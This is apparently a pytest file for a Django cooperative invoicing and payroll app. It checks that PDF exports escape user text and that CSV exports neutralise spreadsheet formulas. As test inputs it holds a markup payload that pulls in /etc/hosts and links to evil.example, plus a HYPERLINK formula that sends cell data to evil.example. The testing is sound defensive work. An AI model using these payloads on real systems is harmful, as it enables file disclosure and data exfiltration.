"""Documents: user text in PDFs is escaped; CSV exports neutralise spreadsheet formulas.

A client (the one shared by both cooperatives) names itself with PDF markup: an image
from the server's disk, a foreign link and a tag left open. Its invoice renders, shows
the name as text, and embeds neither.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from pypdf import PdfReader

from tests.factories.api import api_as, login_verified
from tests.factories.jobs import ClaimFactory, ShiftFactory, TimesheetFactory
from tests.factories.payouts import PayoutItemFactory
from werkstation.spreadsheet import csv_cell, csv_text

pytestmark = [pytest.mark.django_db, pytest.mark.postgres]

HOSTILE = '<img src="/etc/hosts" width="40" height="40"/><a href="https://evil.example/">klik</a><b>Bakker'


def _pdf(content: bytes) -> tuple[str, PdfReader]:
    reader = PdfReader(io.BytesIO(content))
    return "".join(page.extract_text() for page in reader.pages), reader


def _embeds_nothing(reader: PdfReader) -> bool:
    for page in reader.pages:
        if page.images:
            return False
        for annotation in page.get("/Annots") or []:
            if "/URI" in str(annotation.get_object().get("/A", {})):
                return False
    return True


def test_a_client_name_with_pdf_markup_prints_as_text(tenancy):
    t = tenancy
    renamed = api_as(t.shared_user).patch(f"/api/v1/clients/{t.shared.pk}/", {"name": HOSTILE})
    assert renamed.status_code == 200
    worked = ShiftFactory(job=t.job_a, start=timezone.now() - timedelta(days=2))
    TimesheetFactory(settled=True, claim=ClaimFactory(shift=worked, user=t.member_a))
    day = worked.local_date.isoformat()
    issued = api_as(t.treasurer_a).post(
        "/api/v1/cooperatives/alpha/invoices/",
        {"client": t.shared.pk, "period_start": day, "period_end": day},
    )
    assert issued.status_code == 201
    web = Client()
    login_verified(web, t.treasurer_a)
    for response in (
        web.get(f"/c/alpha/treasury/invoices/{issued.data['id']}/?format=pdf"),
        api_as(t.treasurer_a).get(f"/api/v1/cooperatives/alpha/invoices/{issued.data['id']}/pdf/"),
    ):
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        text, reader = _pdf(response.content)
        assert "klik" in text
        assert "<img" in text
        assert "Bakker" in text
        assert _embeds_nothing(reader)


def test_a_credit_note_reason_and_a_report_name_print_as_text(tenancy):
    t = tenancy
    note = api_as(t.treasurer_a).post(
        "/api/v1/cooperatives/alpha/credit-notes/",
        {"invoice": t.invoice_a.pk, "amount": "1.00", "reason": HOSTILE[:240]},
    )
    assert note.status_code == 201
    pdf = api_as(t.treasurer_a).get(
        f"/api/v1/cooperatives/alpha/credit-notes/{note.data['id']}/pdf/"
    )
    assert pdf.status_code == 200
    text, reader = _pdf(pdf.content)
    assert "<img" in text
    assert _embeds_nothing(reader)
    # The municipality's name goes onto the contract report.
    api_as(t.muni_user).patch(f"/api/v1/clients/{t.municipality.pk}/", {"name": HOSTILE})
    report = api_as(t.muni_user).get(
        f"/api/v1/contracts/{t.contract_a.pk}/report/", {"output": "pdf"}
    )
    assert report.status_code == 200
    text, reader = _pdf(report.content)
    assert "klik" in text
    assert _embeds_nothing(reader)


def test_the_payroll_file_neutralises_formulas(tenancy):
    t = tenancy
    t.member_a.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Loon")'
    t.member_a.save(update_fields=["full_name"])
    batch = PayoutItemFactory(
        batch__cooperative=t.coop_a,
        member=t.member_a,
        amount_cents=1234,
        method="payroll",
        paid=True,
    ).batch
    url = f"/api/v1/cooperatives/alpha/payout-batches/{batch.pk}/payroll.csv"
    response = api_as(t.treasurer_a).get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1] == "'" + t.member_a.full_name
    assert rows[1][4] == "1234"


@pytest.mark.parametrize("text", ["=1+1", "+31 6", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_a_spreadsheet_would_run_are_marked_as_text(text):
    assert csv_cell(text) == "'" + text
    row = next(csv.reader(io.StringIO(csv_text([[text, -5, "gewoon"]]))))
    assert row == ["'" + text, "-5", "gewoon"]  # numbers stay numbers


def test_paragraphs_are_built_only_through_the_escaping_helper():
    """A new document that hands user text straight to reportlab's markup parser fails here."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for package in ("werkstation", "members", "jobs", "payouts")
        for path in (root / package).rglob("*.py")
        if "Paragraph(" in path.read_text() and path != root / "werkstation" / "pdf.py"
    ]
    assert not offenders, f"use werkstation.pdf.paragraph (it escapes): {offenders}"
